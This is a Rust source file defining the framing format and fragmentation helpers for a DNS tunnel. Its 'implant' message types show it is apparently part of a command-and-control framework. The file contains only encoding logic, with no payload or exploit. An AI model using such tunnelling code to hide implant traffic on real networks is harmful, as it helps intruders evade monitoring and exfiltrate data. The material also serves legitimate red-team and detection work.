//! The framing record wire format and label-splitting helpers.
//!
//! `DnsMessage` is a small length-delimited tagged record, hand-rolled over
//! `bytes::{Buf, BufMut, BytesMut}` in the same style as the raw DNS
//! question/answer parsing elsewhere in this crate: a fixed tag table, no
//! varints, no generated code.

use bytes::{Buf, BufMut, BytesMut};

use crate::error::{Result, TunnelError};

pub const LABEL_LEN: usize = 63;
pub const FQDN_LEN: usize = 254;
pub const SHAVE_MARGIN: usize = 20;

const TAG_ID: u8 = 1;
const TAG_TYPE: u8 = 2;
const TAG_START: u8 = 3;
const TAG_STOP: u8 = 4;
const TAG_SIZE: u8 = 5;
const TAG_DATA: u8 = 6;

/// The logical role of a [`DnsMessage`], carried on the wire as tag 2.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MessageType {
    Totp,
    Init,
    Poll,
    Manifest,
    DataFromImplant,
    DataToImplant,
    Nop,
}

impl MessageType {
    fn to_wire(self) -> u32 {
        match self {
            MessageType::Totp => 0,
            MessageType::Init => 1,
            MessageType::Poll => 2,
            MessageType::Manifest => 3,
            MessageType::DataFromImplant => 4,
            MessageType::DataToImplant => 5,
            MessageType::Nop => 6,
        }
    }

    fn from_wire(v: u32) -> Result<Self> {
        Ok(match v {
            0 => MessageType::Totp,
            1 => MessageType::Init,
            2 => MessageType::Poll,
            3 => MessageType::Manifest,
            4 => MessageType::DataFromImplant,
            5 => MessageType::DataToImplant,
            6 => MessageType::Nop,
            _ => return Err(TunnelError::InvalidResponse),
        })
    }
}

/// The framing record wrapping every protocol message. All fields are
/// optional on the wire; absent fields decode to their defaults (`0` /
/// empty).
#[derive(Debug, Clone, Default)]
pub struct DnsMessage {
    pub id: u32,
    pub msg_type: Option<MessageType>,
    pub start: u32,
    pub stop: u32,
    pub size: u32,
    pub data: Vec<u8>,
}

impl DnsMessage {
    pub fn new(msg_type: MessageType) -> Self {
        Self {
            msg_type: Some(msg_type),
            ..Default::default()
        }
    }

    /// Serializes this record as a sequence of tag/length/value fields.
    pub fn encode(&self) -> BytesMut {
        let mut buf = BytesMut::new();
        if self.id != 0 {
            put_u32_field(&mut buf, TAG_ID, self.id);
        }
        if let Some(t) = self.msg_type {
            put_u32_field(&mut buf, TAG_TYPE, t.to_wire());
        }
        if self.start != 0 {
            put_u32_field(&mut buf, TAG_START, self.start);
        }
        if self.stop != 0 {
            put_u32_field(&mut buf, TAG_STOP, self.stop);
        }
        if self.size != 0 {
            put_u32_field(&mut buf, TAG_SIZE, self.size);
        }
        if !self.data.is_empty() {
            put_bytes_field(&mut buf, TAG_DATA, &self.data);
        }
        buf
    }

    /// Parses a serialized framing record.
    pub fn decode(mut bytes: &[u8]) -> Result<Self> {
        let mut msg = DnsMessage::default();
        while bytes.has_remaining() {
            if bytes.remaining() < 5 {
                return Err(TunnelError::InvalidResponse);
            }
            let tag = bytes.get_u8();
            let len = bytes.get_u32() as usize;
            if bytes.remaining() < len {
                return Err(TunnelError::InvalidResponse);
            }
            let (field, rest) = bytes.split_at(len);
            bytes = rest;
            match tag {
                TAG_ID => msg.id = read_u32_field(field)?,
                TAG_TYPE => msg.msg_type = Some(MessageType::from_wire(read_u32_field(field)?)?),
                TAG_START => msg.start = read_u32_field(field)?,
                TAG_STOP => msg.stop = read_u32_field(field)?,
                TAG_SIZE => msg.size = read_u32_field(field)?,
                TAG_DATA => msg.data = field.to_vec(),
                _ => return Err(TunnelError::InvalidResponse),
            }
        }
        Ok(msg)
    }
}

fn put_u32_field(buf: &mut BytesMut, tag: u8, value: u32) {
    buf.put_u8(tag);
    buf.put_u32(4);
    buf.put_u32(value);
}

fn put_bytes_field(buf: &mut BytesMut, tag: u8, value: &[u8]) {
    buf.put_u8(tag);
    buf.put_u32(value.len() as u32);
    buf.put_slice(value);
}

fn read_u32_field(mut field: &[u8]) -> Result<u32> {
    if field.len() != 4 {
        return Err(TunnelError::InvalidResponse);
    }
    Ok(field.get_u32())
}

/// Splits `encoded` into ≤63-character labels, joins with `.`, and appends
/// `parent`. `parent` is assumed already normalized (no leading dot, one
/// trailing dot).
pub fn join_subdata(encoded: &str, parent: &str, subdata_space: usize) -> Result<String> {
    if encoded.len() >= subdata_space {
        return Err(TunnelError::MsgTooLong);
    }
    let bytes = encoded.as_bytes();
    let mut labels = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let end = (i + LABEL_LEN).min(bytes.len());
        labels.push(std::str::from_utf8(&bytes[i..end]).expect("ascii encoder output"));
        i = end;
    }
    let mut fqdn = labels.join(".");
    if !fqdn.is_empty() {
        fqdn.push('.');
    }
    fqdn.push_str(parent);
    if fqdn.len() > FQDN_LEN {
        return Err(TunnelError::MsgTooLong);
    }
    Ok(fqdn)
}

/// Computes the subdata space for a given parent zone, per the formula
/// `254 − len(parent) − ⌊(254 − len(parent))/64⌋`.
pub fn subdata_space(parent: &str) -> usize {
    let room = FQDN_LEN - parent.len();
    room - room / 64
}

/// Normalizes a parent zone: strips exactly one leading dot, ensures
/// exactly one trailing dot.
pub fn normalize_parent(parent: &str) -> String {
    let stripped = parent.strip_prefix('.').unwrap_or(parent);
    if stripped.ends_with('.') {
        stripped.to_string()
    } else {
        format!("{stripped}.")
    }
}

/// Splits `data` into minimal fragments such that each fragment, wrapped
/// into a framing record templated on `msg` and encoded with `encoder`,
/// produces a string of length ≤ `max_len − 1`. `msg.id` and `msg.size`
/// (if already set by the caller) are copied onto every fragment; only
/// `start` (the fragment ordinal) and `data` vary per fragment.
///
/// Adaptive rather than analytic: the framing record's own serialized size
/// depends on its field values, so the only way to hit the boundary
/// exactly is to grow the candidate fragment until encoding it overshoots.
pub fn split_buffer(
    msg: &DnsMessage,
    encoder: &dyn crate::encoding::Encoder,
    max_len: usize,
    data: &[u8],
) -> Result<Vec<DnsMessage>> {
    let budget = max_len.saturating_sub(1);
    let len = data.len();
    let mut fragments = Vec::new();
    let mut start = 0usize;
    let mut idx: u32 = 0;

    let template_for = |idx: u32, start: usize, stop: usize| -> DnsMessage {
        let mut fragment = msg.clone();
        fragment.start = idx;
        fragment.data = data[start..stop].to_vec();
        fragment
    };

    let encoded_len = |idx: u32, start: usize, stop: usize| -> usize {
        encoder.encode(&template_for(idx, start, stop).encode()).len()
    };

    while start < len {
        let mut stop = (start + max_len.saturating_sub(SHAVE_MARGIN)).min(len);
        if stop <= start {
            stop = start + 1;
        }

        // Grow greedily while still under budget.
        while stop < len && encoded_len(idx, start, stop + 1) <= budget {
            stop += 1;
        }
        // Shrink if the initial guess already overshot the budget.
        while stop > start + 1 && encoded_len(idx, start, stop) > budget {
            stop -= 1;
        }

        fragments.push(template_for(idx, start, stop));

        start = stop;
        idx += 1;
    }

    Ok(fragments)
}
